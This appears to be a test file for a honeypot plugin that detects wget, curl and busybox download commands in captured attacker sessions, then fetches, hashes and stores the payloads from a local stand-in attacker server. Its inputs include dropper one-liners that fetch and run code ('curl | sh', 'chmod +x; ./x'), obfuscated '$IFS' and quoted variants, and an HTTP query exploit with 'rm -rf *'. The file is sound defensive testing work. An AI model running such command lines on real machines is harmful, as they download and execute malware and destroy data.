// Tests for http-download, run by `honeytrap-plugin test` with node:test. The
// plugin runs in the daemon's own worker engine and fetches through the
// daemon's own network broker (allowPrivateNetwork: the "attacker" is a real
// HTTP server on 127.0.0.1, started here).
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { attackFixture, loadPlugin, runPlugin } from '@honeytrap/sdk';

const dir = fileURLToPath(new URL('..', import.meta.url));
const ATTACKER = '127.0.0.1';

/** A 32-bit little-endian ARM ELF header and some code bytes: what a Mirai loader fetches. */
const ELF = Buffer.concat([
  Buffer.from([
    0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 40, 0, 1, 0, 0, 0,
  ]),
  Buffer.alloc(4000, 0xe5),
]);
const SCRIPT = Buffer.from('#!/bin/sh\ncd /tmp\nchmod +x .x; ./.x telnet\n');
const FILES = { '/x.sh': SCRIPT, '/bins/x.arm': ELF };

/** Requests the server saw, by path. */
const hits = new Map();
let server;
let port = 0;
let base = '';

before(async () => {
  server = createServer((req, res) => {
    const path = new URL(req.url, 'http://x').pathname;
    hits.set(path, (hits.get(path) ?? 0) + 1);
    if (path === '/slow') return; // never answers: the fetch times out
    if (path === '/bins.sh') {
      // a dropper's script: its own download lines point back at this server
      res.end(`#!/bin/sh\ncd /tmp; wget ${base}/bins/x.arm; chmod +x x.arm; ./x.arm\n`);
      return;
    }
    if (path.startsWith('/long/')) {
      res.end(SCRIPT);
      return;
    }
    if (path === '/moved') {
      res.writeHead(302, { location: '/bins/x.arm' }).end();
      return;
    }
    const body = FILES[path];
    if (!body) {
      res.writeHead(404, { 'content-type': 'text/html' }).end('<html><body>not here</body></html>');
      return;
    }
    res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(body);
  });
  await new Promise((resolve) => server.listen(0, ATTACKER, resolve));
  port = server.address().port;
  base = `http://${ATTACKER}:${port}`;
});
after(() => {
  server.closeAllConnections();
  server.close();
});

/** The plugin run once on `received` from the attacker; `opts`: config, results. */
const run = (received, opts = {}) =>
  runPlugin(dir, attackFixture({ received, remote: ATTACKER, port: 23 }), {
    allowPrivateNetwork: true,
    ...opts,
  });

/** [url, status, via] of each download finding. */
const summary = ({ findings }) =>
  findings.flatMap((f) => (f.type === 'download' ? [[f.value, f.meta.status, f.meta.via]] : []));

/** The meta of a fetched file: hashes from node:crypto, size, type. */
function assertFile(meta, data, fileType) {
  for (const a of ['md5', 'sha1', 'sha256', 'sha512'])
    assert.equal(meta[a], createHash(a).update(data).digest('hex'), a);
  assert.equal(meta.size, data.length);
  assert.equal(meta.fileType, fileType);
}

test('a dropper line: wget fetches the script, which is stored, hashed and typed', async () => {
  const received = `cd /tmp; wget ${base}/x.sh; chmod 777 x.sh; sh x.sh\r\n`;
  const out = await run(received);
  assert.deepEqual(summary(out), [[`${base}/x.sh`, 'ok', 'wget']]);
  const [f] = out.findings;
  assert.equal(f.offset, received.indexOf('wget'));
  assert.equal(f.meta.code, 200);
  assert.equal(f.meta.address, ATTACKER);
  assertFile(f.meta, SCRIPT, 'script');
  assert.equal(f.meta.fileDescription, 'POSIX shell script');
  assert.equal(f.meta.contentType, 'text/x-shellscript');
  assert.equal(f.meta.serverType, 'application/octet-stream');
  assert.deepEqual(out.artifacts, [
    { name: 'x.sh', contentType: 'text/x-shellscript', data: SCRIPT.toString('base64') },
  ]);
});

test('curl -O, busybox wget without a scheme, curl | sh, and quoted and $IFS forms', async () => {
  const received = [
    `curl -O ${base}/bins/x.arm`,
    `/bin/busybox wget ${ATTACKER}:${port}/bins/x.arm?b -O /tmp/b; /bin/busybox chmod +x /tmp/b`,
    `curl -fsSL -A "Mozilla/5.0 (X11)" ${base}/x.sh?c | sh`,
    `bash -c 'wget -q -O- ${base}/x.sh?d | sh'`,
    `cd${'${IFS}'}/tmp;wget${'${IFS}'}${base}/x.sh?e`,
  ].join('\n');
  const out = await run(received, { config: { bareUrls: false } });
  assert.deepEqual(summary(out), [
    [`${base}/bins/x.arm`, 'ok', 'curl'],
    [`http://${ATTACKER}:${port}/bins/x.arm?b`, 'ok', 'busybox wget'],
    [`${base}/x.sh?c`, 'ok', 'curl'],
    [`${base}/x.sh?d`, 'ok', 'wget'],
    [`${base}/x.sh?e`, 'ok', 'wget'],
  ]);
  const elf = out.findings[0].meta;
  assertFile(elf, ELF, 'ELF');
  assert.equal(elf.fileDescription, 'ELF 32-bit LSB executable, ARM');
  assert.equal(elf.contentType, 'application/x-elf');
  // one artifact per distinct file
  assert.deepEqual(
    out.artifacts.map((a) => [a.name, a.contentType]),
    [
      ['x.arm', 'application/x-elf'],
      ['x.sh', 'text/x-shellscript'],
    ],
  );
});

test('obfuscated and nested forms seen in the wild', async () => {
  const received = [
    `w'g'et ${base}/x.sh?q1`, // quotes inside the program name
    `"/usr/bin/wget" "${base}/x.sh?q2"`,
    `sudo -n true; sudo wget ${base}/x.sh?q3`,
    `echo \`curl -s ${base}/x.sh?q4\``,
    `a=$(wget -qO- ${base}/x.sh?q5)`,
    `{"method":"exec","params":{"cmd":"cd /tmp;wget ${base}/x.sh?q6 -O a;sh a"}}`,
    `WGET ${base}/x.sh?q7`, // upper case: a Windows box with GnuWin32 answers to it too
  ].join('\n');
  const out = await run(received, { config: { bareUrls: false, maxDownloads: 10 } });
  assert.deepEqual(
    summary(out).map(([url, status]) => [url.slice(base.length), status]),
    ['q1', 'q2', 'q3', 'q4', 'q5', 'q6', 'q7'].map((q) => [`/x.sh?${q}`, 'ok']),
  );
});

test('an exploit in an HTTP query string is read percent-decoded', async () => {
  const received = `GET /shell?cd+/tmp;rm+-rf+*;wget+${base.replace(/:/g, '%3A')}/x.sh;sh+/tmp/x.sh HTTP/1.1\r\nHost: x\r\n\r\n`;
  const out = await run(received, { config: { bareUrls: false } });
  assert.deepEqual(summary(out), [[`${base}/x.sh`, 'ok', 'wget (decoded)']]);
  assert.equal(out.findings[0].offset, undefined);
});

test('an IPv6 attacker: the URL in brackets, fetched from ::1', async () => {
  const v6 = createServer((req, res) => res.end(SCRIPT));
  await new Promise((resolve) => v6.listen(0, '::1', resolve));
  try {
    const url = `http://[::1]:${v6.address().port}/x.sh`;
    const out = await runPlugin(
      dir,
      attackFixture({ received: `wget ${url}; sh x.sh`, remote: '::1', port: 23 }),
      { allowPrivateNetwork: true },
    );
    assert.deepEqual(summary(out), [[url, 'ok', 'wget']]);
    assert.equal(out.findings[0].meta.address, '::1');
  } finally {
    v6.closeAllConnections();
    v6.close();
  }
});

test('every attempt is recorded: 404, connection refused, timeout, a host that is not the attacker', async () => {
  const closed = createServer();
  await new Promise((resolve) => closed.listen(0, ATTACKER, resolve));
  const closedPort = closed.address().port;
  await new Promise((resolve) => closed.close(resolve));
  const received = [
    `wget ${base}/missing.bin`,
    `wget http://${ATTACKER}:${closedPort}/x.bin`,
    `wget ${base}/slow`,
    `wget http://127.0.0.2:${port}/x.sh`,
  ].join(';');
  const started = Date.now();
  const out = await run(received, { config: { timeoutMs: 1000 } });
  assert.ok(Date.now() - started < 15_000, 'the fetches run side by side');
  const byUrl = Object.fromEntries(out.findings.map((f) => [f.value, f.meta]));
  assert.equal(out.findings.length, 4);
  assert.deepEqual(out.artifacts, []);

  const missing = byUrl[`${base}/missing.bin`];
  assert.equal(missing.status, 'failed');
  assert.equal(missing.code, 404);
  assert.match(missing.error, /^404/);
  assert.equal(missing.fileType, 'HTML'); // what the server sent instead is described, not stored

  const refused = byUrl[`http://${ATTACKER}:${closedPort}/x.bin`];
  assert.equal(refused.status, 'failed');
  assert.equal(refused.errorCode, 'HT_PLUGIN_NETWORK');
  assert.match(refused.error, /refused|ECONNREFUSED/i);

  const slow = byUrl[`${base}/slow`];
  assert.equal(slow.status, 'failed');
  assert.equal(slow.errorCode, 'HT_PLUGIN_NETWORK');
  assert.match(slow.error, /time/i);

  const other = byUrl[`http://127.0.0.2:${port}/x.sh`];
  assert.equal(other.status, 'refused');
  assert.equal(other.errorCode, 'HT_PLUGIN_DENIED');
  assert.match(other.error, /not the attacking host/);
});

test('a redirect is followed on the attacking host; each URL is fetched once; maxDownloads caps the rest', async () => {
  hits.clear();
  const received = [
    `wget ${base}/moved`,
    `wget ${base}/x.sh; curl ${base}/x.sh; echo ${base}/x.sh`,
    `wget ${base}/x.sh?2`,
    `wget ${base}/x.sh?3`,
  ].join('\n');
  const out = await run(received, { config: { maxDownloads: 3 } });
  assert.deepEqual(summary(out), [
    [`${base}/moved`, 'ok', 'wget'],
    [`${base}/x.sh`, 'ok', 'wget'],
    [`${base}/x.sh?2`, 'ok', 'wget'],
  ]);
  assert.equal(out.findings[0].meta.finalUrl, `${base}/bins/x.arm`);
  assert.equal(out.findings[0].meta.redirects, 1);
  assert.equal(out.findings[0].meta.fileType, 'ELF');
  assert.equal(hits.get('/x.sh'), 2); // x.sh and x.sh?2, once each
  assert.deepEqual(out.findings.at(-1), {
    type: 'note',
    value: '1 more download target(s) not fetched (maxDownloads 3)',
  });
});

test("url-extract's findings are fetched too (after: url-extract)", async () => {
  const results = {
    'url-extract': {
      findings: [
        { type: 'command', value: 'x', offset: 4, meta: { tool: 'wget', url: `${base}/x.sh?ue` } },
        { type: 'url', value: `tftp://${ATTACKER}/not-http`, offset: 9 },
      ],
    },
  };
  const out = await run('no command line in here', { results });
  assert.deepEqual(summary(out), [[`${base}/x.sh?ue`, 'ok', 'url-extract wget']]);
  assert.equal(out.findings[0].offset, 4);
});

test('a script it downloads is read in the same task: the binaries it fetches come too', async () => {
  const received = `cd /tmp; wget ${base}/bins.sh; sh bins.sh\r\n`;
  const out = await run(received);
  assert.deepEqual(summary(out), [
    [`${base}/bins.sh`, 'ok', 'wget'],
    [`${base}/bins/x.arm`, 'ok', 'wget in bins.sh'],
  ]);
  assert.equal(out.findings[1].offset, undefined); // not in the attack
  assert.deepEqual(
    out.artifacts.map((a) => a.name),
    ['bins.sh', 'x.arm'],
  );
  // within maxDownloads: with 1, the script's targets are counted in a note
  const capped = await run(received, { config: { maxDownloads: 1 } });
  assert.deepEqual(capped.findings.at(-1), {
    type: 'note',
    value: '1 download target(s) in downloaded scripts not fetched (maxDownloads 1)',
  });
});

test('a downloaded script (a text artifact) leads to the next download', async () => {
  const plugin = await loadPlugin(dir, { allowPrivateNetwork: true });
  try {
    const script = `#!/bin/sh\nwget ${base}/bins/x.arm -O /tmp/x; chmod +x /tmp/x; /tmp/x\n`;
    const out = await plugin.runArtifact(
      { data: script, contentType: 'text/x-shellscript', name: 'x.sh', producer: 'tftp-download' },
      attackFixture({ received: 'wget', remote: ATTACKER }),
    );
    assert.deepEqual(summary(out), [[`${base}/bins/x.arm`, 'ok', 'wget']]);
    assert.equal(out.artifacts[0].name, 'x.arm');
  } finally {
    await plugin.close();
  }
});

test('a file name longer than an artifact name may be is cut; a URL of 10,000 characters is skipped', async () => {
  const name = 'a'.repeat(300);
  const out = await run(`wget ${base}/long/${name}; wget ${base}/${'b'.repeat(10_000)}`);
  assert.deepEqual(summary(out), [[`${base}/long/${name}`, 'ok', 'wget']]);
  assert.equal(out.artifacts[0].name, name.slice(0, 255));
});

test('no URL, no download', async () => {
  const out = await run('SSH-2.0-libssh_0.9.6\r\nUSER root\r\n');
  assert.deepEqual(out, { findings: [], artifacts: [] });
});
